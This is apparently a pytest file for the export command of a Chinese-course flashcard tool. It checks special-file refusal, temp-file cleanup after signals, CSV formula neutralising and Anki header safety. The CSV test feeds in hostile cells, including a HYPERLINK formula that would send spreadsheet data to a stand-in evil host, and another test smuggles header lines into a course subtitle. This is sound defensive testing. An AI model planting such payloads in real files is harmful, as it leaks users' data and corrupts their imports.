"""Exports write only regular files, leave no temp file behind when stopped,
and carry no spreadsheet formula or Anki header a course or import slipped in."""

from __future__ import annotations

import csv
import json
import os
import random
import signal
import socket
import stat
import subprocess
import sys
import time
from datetime import datetime, timezone
from pathlib import Path

import pytest

from gonghui_tui.domain.loader import load_course
from gonghui_tui.paths import bundled_course
from gonghui_tui.storage.store import Store, to_ms

ROOT = Path(__file__).resolve().parents[2]
# The CLI with the fsync of a JSON export's temp file made slow, so a signal can be aimed at the moment the temp file exists.
SLOW_FSYNC = ("import os, sys, time; real = os.fsync; "
              "slow = lambda fd: '.json.' in os.readlink(f'/proc/self/fd/{fd}'); "
              "os.fsync = lambda fd: (slow(fd) and time.sleep(float(os.environ['SLOW_FSYNC'])), real(fd))[1]; "
              "from gonghui_tui.cli import main; sys.exit(main(sys.argv[1:]))")


def _as_from_a_terminal() -> None:
    # A pytest-xdist worker ignores SIGINT, and a child inherits that: Python then
    # never raises KeyboardInterrupt, and the SIGINT cases waited for the whole
    # slow export. A shell starts the command with SIGINT at its default.
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def cli(home: Path, *args: str, slow_fsync: float = 0.0, **popen) -> subprocess.Popen:
    env = {**os.environ, "GONGHUI_TUI_HOME": str(home), "SLOW_FSYNC": str(slow_fsync)}
    return subprocess.Popen([sys.executable, "-c", SLOW_FSYNC, "--lang", "en", *args], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            preexec_fn=_as_from_a_terminal, **popen)


def run(home: Path, *args: str) -> tuple[int, str, str]:
    proc = cli(home, *args)
    out, err = proc.communicate(timeout=120)
    return proc.returncode, out, err


def temps(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


def test_a_device_fifo_or_socket_is_refused_even_with_force_and_a_folder_gets_a_file_inside(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    os.mkfifo(out / "fifo.md")
    (out / "folder.md").mkdir()
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(out / "sock.md"))
    (out / "null.md").symlink_to("/dev/null")  # never /dev/null itself: a failing test would replace it
    kinds = {"fifo.md": "a FIFO (named pipe)", "sock.md": "a socket", "null.md": "a character device"}
    for name, kind in kinds.items():
        for fmt in ("md", "csv"):
            code, _, err = run(tmp_path / "home", "export", "--format", fmt, "-o", str(out / name), "--force")
            assert code == 2 and err.count("\n") == 1, (name, err)
            assert f"{out / name} is {kind}, not a regular file" in err
    assert stat.S_ISFIFO(os.lstat(out / "fifo.md").st_mode)
    assert stat.S_ISSOCK(os.lstat(out / "sock.md").st_mode) and os.readlink(out / "null.md") == "/dev/null"
    # A folder is never replaced: the export goes inside it under its dated name (issue 17.7).
    for fmt in ("md", "csv"):
        code, _, err = run(tmp_path / "home", "export", "--format", fmt, "-o", str(out / "folder.md"), "--force")
        assert code == 0, err
    assert (out / "folder.md").is_dir()
    assert sorted(p.suffix for p in (out / "folder.md").iterdir()) == [".csv", ".md"]
    assert temps(out) == [] and temps(out / "folder.md") == []


@pytest.fixture(scope="module")
def long_history(tmp_path_factory) -> Path:
    sys.path.insert(0, str(ROOT))
    from bench.history import fill_history

    home = tmp_path_factory.mktemp("long")
    fill_history(load_course(bundled_course()), home / "progress.sqlite3", 200_000).close()
    return home


@pytest.mark.parametrize("signum, code", [(signal.SIGTERM, 128 + signal.SIGTERM), (signal.SIGINT, 130)])
def test_a_signal_mid_export_removes_the_temp_file(long_history, tmp_path, signum, code):
    target = tmp_path / "progress.json"
    proc = cli(long_history, "export", "--format", "json", "-o", str(target), slow_fsync=30)
    deadline = time.monotonic() + 60
    while not temps(tmp_path) and time.monotonic() < deadline:
        time.sleep(0.01)
    assert temps(tmp_path), "the export never started writing"
    proc.send_signal(signum)
    proc.communicate(timeout=30)
    assert proc.returncode == code
    assert temps(tmp_path) == [] and not target.exists()


def test_a_sigkilled_exports_temp_file_is_removed_by_the_next_export(long_history, tmp_path):
    target = tmp_path / "progress.json"
    proc = cli(long_history, "export", "--format", "json", "-o", str(target), slow_fsync=30)
    deadline = time.monotonic() + 60
    while not temps(tmp_path) and time.monotonic() < deadline:
        time.sleep(0.01)
    proc.kill()
    proc.communicate(timeout=30)
    assert len(temps(tmp_path)) == 1  # SIGKILL cannot be caught
    code, _, err = run(long_history, "export", "--format", "json", "-o", str(target))
    assert code == 0, err
    assert temps(tmp_path) == [] and len(json.loads(target.read_text(encoding="utf-8"))["reviews"]) == 200_000


@pytest.mark.slow
def test_signals_at_random_moments_never_leave_a_temp_file_or_half_an_export(long_history, tmp_path):
    rng = random.Random(13)
    start = time.monotonic()
    assert run(long_history, "export", "--format", "json", "-o", str(tmp_path / "whole.json"))[0] == 0
    whole = time.monotonic() - start
    for trial in range(20):
        target = tmp_path / f"t{trial}.json"
        proc = cli(long_history, "export", "--format", "json", "-o", str(target))
        time.sleep(rng.uniform(0.2, whole))
        proc.send_signal(rng.choice((signal.SIGTERM, signal.SIGINT)))
        proc.communicate(timeout=60)
        assert [name for name in temps(tmp_path)] == [], trial
        if target.exists():  # finished before the signal: whole
            assert len(json.loads(target.read_text(encoding="utf-8"))["reviews"]) == 200_000


def test_csv_cells_that_look_like_formulas_are_neutralised(tmp_path):
    """Card ids as an import could bring them (the store's own SQL, as an import writes)."""
    course = load_course(bundled_course())
    home = tmp_path / "home"
    when = datetime(2026, 1, 1, tzinfo=timezone.utc)
    store = Store.open(home / "progress.sqlite3", when)
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx",
               "a\r=1+1", "plain"]
    with store.transaction() as conn:
        conn.executemany("INSERT INTO review_log (course_id, card_id, rating, reviewed_ms, duration_ms) "
                         "VALUES (?, ?, 3, ?, 1000)", [(course.id, cid, to_ms(when) + i) for i, cid in enumerate(hostile)])
    store.close()
    code, _, err = run(home, "export", "--format", "csv", "-o", str(tmp_path / "log.csv"))
    assert code == 0, err
    with open(tmp_path / "log.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["card_id"] for r in rows] == ["'" + h for h in hostile[:-2]] + ["a\r=1+1", "plain"]
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


def test_a_newline_in_the_course_title_adds_no_anki_header_line(tmp_path):
    text = bundled_course().read_text(encoding="utf-8")
    course = tmp_path / "course.toml"
    course.write_text(text.replace('subtitle = "', 'subtitle = "甲\\n#separator:comma\\n#html:false\\n', 1),
                      encoding="utf-8")
    code, _, err = run(tmp_path / "home", "--course", str(course), "export", "--format", "anki",
                       "-o", str(tmp_path / "cards.txt"))
    assert code == 0, err
    headers = [line for line in (tmp_path / "cards.txt").read_text(encoding="utf-8").splitlines()
               if line.startswith("#")]
    assert "#separator:comma" not in headers and "#html:false" not in headers
    assert [h for h in headers if h.startswith("#deck:")] == ["#deck:甲 #separator:comma #html:false 工会干部培训"]
